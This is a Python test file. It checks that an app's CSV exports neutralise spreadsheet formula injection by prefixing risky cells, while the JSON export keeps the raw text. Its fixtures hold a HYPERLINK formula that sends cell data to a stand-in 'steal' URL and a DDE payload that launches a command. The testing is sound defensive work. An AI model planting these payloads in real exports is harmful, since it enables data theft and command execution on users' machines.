"""Every CSV the app writes neutralises cells a spreadsheet would run (issue 29, finding 3: a visitor's
`=HYPERLINK(…)` reached the admin's "Download list (CSV)" as a live formula): read back with Python's csv module,
from a real turn's trace on a sqlite store; the JSON export keeps the text as it was."""

from __future__ import annotations

import csv
import io
import json
import tomllib
from pathlib import Path

import pytest

from core import exports, traces
from core.config import Settings
from core.conversations import Conversation, ConversationStore
from core.observe import export
from core.turn import TurnHandle, TurnRequest

FORMULA = '=HYPERLINK("http://127.0.0.1:9/steal?d="&B2,"Open report")'


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_text(start):
    data = exports.csv_bytes([{"request": f"{start}1+2", "cost_usd": -0.5, "turns": None}])
    (row,) = rows(data)
    assert row == {"request": f"'{start}1+2", "cost_usd": "-0.5", "turns": ""}  # numbers stay numbers


def test_a_visitors_formula_is_text_in_the_trace_list_and_breakdowns_and_kept_in_json(tracking_uri, experiment_name):
    store = ConversationStore.connect(tracking_uri, experiment_name)
    conversation = Conversation(scenario="catify", session_id="@v1", provider="demo", options={"iterations": 1})
    outcome = TurnHandle(TurnRequest(conversation, FORMULA, Settings(tracking_uri=tracking_uri), store)).start().wait(120)
    assert outcome is not None and outcome.status == "ok", outcome and outcome.error
    export.flush()
    frames = traces.SqlTraceReader(tracking_uri, store.experiment_id).frames()

    (listed,) = rows(exports.csv_bytes(frames.traces[traces.LIST_COLUMNS]))
    assert listed["request"] == "'" + FORMULA, "the formula is text to a spreadsheet"
    # the session is the conversation since issue 31 (an id of the app's); a value someone chose goes through the
    # same csv_bytes as every breakdown (test_a_cell_a_spreadsheet_would_run_is_text)
    by_session = rows(exports.csv_bytes(traces.breakdown(frames, "session")))
    assert [r["session"] for r in by_session] == [outcome.conversation.id]
    assert float(listed["cost_usd"]) == pytest.approx(float(frames.traces["cost_usd"].iloc[0]))

    trace = traces.load_trace(tracking_uri, outcome.trace_id)
    assert FORMULA in json.loads(traces.trace_json(trace))["info"]["request_preview"], "JSON keeps the text as typed"


def test_the_comparison_csv_neutralises_its_labels_and_cells():
    data = exports.csv_bytes([{"step": "@SUM(A1)", "1: status": "OK"}], preamble=["=cmd|' /C calc'!A0", "# 2: fine"])
    lines = list(csv.reader(io.StringIO(data.decode())))
    assert lines[0] == ["'=cmd|' /C calc'!A0"] and lines[1] == ["# 2: fine"]
    assert lines[2:] == [["step", "1: status"], ["'@SUM(A1)", "OK"]]


def test_no_table_writes_a_csv_of_its_own():
    """Streamlit's table toolbar writes its CSV in the browser with every cell as it is: switched off, so every
    CSV is one of ours."""
    config = tomllib.loads((Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
